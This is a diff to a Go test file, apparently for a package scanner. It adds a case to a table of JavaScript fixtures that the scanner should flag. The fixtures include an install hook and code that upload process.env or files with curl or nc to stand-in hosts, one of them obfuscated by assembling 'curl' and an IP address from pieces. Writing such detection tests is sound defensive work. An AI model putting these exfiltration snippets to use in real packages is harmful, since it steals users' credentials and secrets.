@@ -74,6 +74,9 @@ func TestSpawn(t *testing.T) {
 		{"curl_upload_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node e.js"}}`,
 			"e.js": `require("fs").writeFileSync("/tmp/e.json", JSON.stringify(process.env)); require("child_process").exec("curl -s -F f=@/tmp/e.json https://collect.example.invalid/u")`}, finding.SeverityHigh},
 		{"curl_data_binary", map[string]string{"index.js": `require("child_process").execSync("curl -X POST --data-binary @coverage.json https://cov.example.invalid/upload")`}, finding.SeverityMedium},
+		// to a bare address, the command built around a temp file
+		{"curl_upload_bare_ip", map[string]string{"index.js": `const bin = ["c", "u", "r", "l"].join(""); const dst = "https://" + ["203", "0", "113", "77"].join(".") + "/w";
+require("child_process").spawn("sh", ["-c", ` + "`${bin} -sk --data-binary @${f} ${dst}; rm -f ${f}`" + `], { stdio: "ignore" })`}, finding.SeverityHigh},
 		// the environment fed to a command that uploads its input
 		{"curl_stdin_env", map[string]string{"index.js": `require("child_process").execSync("curl -s -X POST --data-binary @- https://c.example.invalid/u", { input: JSON.stringify(process.env) })`}, finding.SeverityCritical},
 		{"nc_stdin_env", map[string]string{"index.js": `require("child_process").spawnSync("nc", [], { input: JSON.stringify(process.env) }); require("child_process").execSync("nc c.example.invalid 9000", { input: JSON.stringify(process.env) })`}, finding.SeverityCritical},
